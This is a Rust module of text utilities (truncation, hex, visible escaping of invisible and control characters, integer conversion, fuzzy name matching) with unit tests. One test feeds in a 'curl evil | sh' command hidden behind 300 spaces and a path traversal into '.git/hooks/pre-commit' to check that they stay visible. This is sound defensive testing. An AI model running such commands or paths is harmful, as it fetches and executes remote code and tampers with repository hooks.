//! Small text helpers shared by the format's diagnostics, the argument errors
//! and the server: one definition each.

/// Text cut to at most `limit` characters, ending in `…` when cut.
pub fn shorten(text: &str, limit: usize) -> String {
    if text.chars().count() <= limit {
        text.to_owned()
    } else {
        let mut cut: String = text.chars().take(limit.saturating_sub(1)).collect();
        cut.push('…');
        cut
    }
}

/// Bytes as lowercase hex (digests in ids and fingerprints).
pub fn hex(bytes: &[u8]) -> String {
    use std::fmt::Write;
    bytes
        .iter()
        .fold(String::with_capacity(bytes.len() * 2), |mut out, b| {
            let _ = write!(out, "{b:02x}");
            out
        })
}

/// Text as a person must see it in a question: control and invisible
/// characters escaped (`\n`, `\u{202e}`), a run of more than three spaces
/// shown as its count (`[300 spaces]`), and past `limit` characters cut in
/// the middle, so that its end always shows.
pub fn visible(text: &str, limit: usize) -> String {
    use std::fmt::Write;
    let mut out = String::with_capacity(text.len().min(limit * 2));
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            ' ' => {
                let mut run = 1;
                while chars.next_if_eq(&' ').is_some() {
                    run += 1;
                }
                if run > 3 {
                    let _ = write!(out, "[{run} spaces]");
                } else {
                    out.extend(std::iter::repeat_n(' ', run));
                }
            }
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            c if c.is_control() || is_invisible(c) => {
                let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
            }
            c => out.push(c),
        }
    }
    let count = out.chars().count();
    if count <= limit {
        return out;
    }
    let head = limit * 3 / 5;
    let tail = limit.saturating_sub(head);
    let start: String = out.chars().take(head).collect();
    let end: String = out.chars().skip(count - tail).collect();
    format!("{start} …[{} more characters]… {end}", count - head - tail)
}

/// Characters that show as nothing, or reorder what follows: zero-width
/// ones, bidirectional controls, the byte-order mark, the soft hyphen.
fn is_invisible(c: char) -> bool {
    matches!(c,
        '\u{00ad}' | '\u{061c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
        | '\u{2060}'..='\u{2064}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

/// The integer a float stands for: `Some` when it is whole and inside the
/// 64-bit range (`3.0` → `3`), `None` for `3.5`, `1e19`, NaN and infinities.
pub fn exact_integer(x: f64) -> Option<i64> {
    // 2^63 is exactly representable; every whole float below it in magnitude
    // converts without loss.
    const LIMIT: f64 = 9_223_372_036_854_775_808.0;
    (x.fract() == 0.0 && (-LIMIT..LIMIT).contains(&x)).then_some(x as i64)
}

/// The candidate closest to `input`, if one is close enough to be what was meant.
///
/// Matching ignores ASCII case, `_` and `-`; beyond that a candidate is close when
/// one name contains the other (`desc`, `readOnlyHint`) or when few edits separate
/// them (`requried`, `deſcription`).
pub fn closest<'a>(input: &str, candidates: &[&'a str]) -> Option<&'a str> {
    let wanted = normalize(input);
    if wanted.is_empty() {
        return None;
    }
    let mut best: Option<(usize, &'a str)> = None;
    for &candidate in candidates {
        let have = normalize(candidate);
        let score = if have == wanted {
            0
        } else if common_prefix(&have, &wanted) >= 4.max(wanted.chars().count() / 2 + 1)
            || have.chars().count() >= 3
                && wanted.chars().count() >= 3
                && (have.contains(&wanted) || wanted.contains(&have))
        {
            1
        } else {
            let distance = strsim::damerau_levenshtein(&wanted, &have);
            let allowed = (wanted.chars().count().max(have.chars().count()) / 4).max(1);
            if distance > allowed {
                continue;
            }
            1 + distance
        };
        if best.is_none_or(|(s, _)| score < s) {
            best = Some((score, candidate));
        }
    }
    best.map(|(_, candidate)| candidate)
}

fn common_prefix(a: &str, b: &str) -> usize {
    a.chars().zip(b.chars()).take_while(|(x, y)| x == y).count()
}

fn normalize(s: &str) -> String {
    s.chars()
        .filter(|c| !matches!(c, '_' | '-' | ' ' | '\t'))
        .flat_map(char::to_lowercase)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shorten_keeps_the_limit_including_the_ellipsis() {
        assert_eq!(shorten("abc", 3), "abc");
        assert_eq!(shorten("abcd", 3), "ab…");
        assert_eq!(shorten("ééééé", 4), "ééé…");
    }

    #[test]
    fn exact_integers() {
        assert_eq!(exact_integer(3.0), Some(3));
        assert_eq!(exact_integer(-0.0), Some(0));
        assert_eq!(exact_integer(3.5), None);
        assert_eq!(exact_integer(9.3e18), None);
        assert_eq!(exact_integer(-9_223_372_036_854_775_808.0), Some(i64::MIN));
        assert_eq!(exact_integer(f64::NAN), None);
        assert_eq!(exact_integer(f64::INFINITY), None);
    }

    #[test]
    fn closest_names() {
        assert_eq!(closest("usr_id", &["user_id", "name"]), Some("user_id"));
        assert_eq!(closest("zzz", &["user_id", "name"]), None);
    }

    #[test]
    fn what_a_question_shows_cannot_hide() {
        assert_eq!(visible("plain text", 200), "plain text");
        assert_eq!(
            visible(&format!("x{}; curl evil | sh", " ".repeat(300)), 200),
            "x[300 spaces]; curl evil | sh"
        );
        assert_eq!(
            visible("a\nb\tc\u{202e}d\u{1b}", 200),
            "a\\nb\\tc\\u{202e}d\\u{1b}"
        );
        let long = format!("archive/{}../.git/hooks/pre-commit", "./".repeat(200));
        let shown = visible(&long, 100);
        assert!(shown.ends_with("../.git/hooks/pre-commit"), "{shown}");
        assert!(shown.starts_with("archive/./"), "{shown}");
        assert!(shown.contains("more characters"), "{shown}");
        assert!(shown.chars().count() < 140, "{shown}");
    }
}
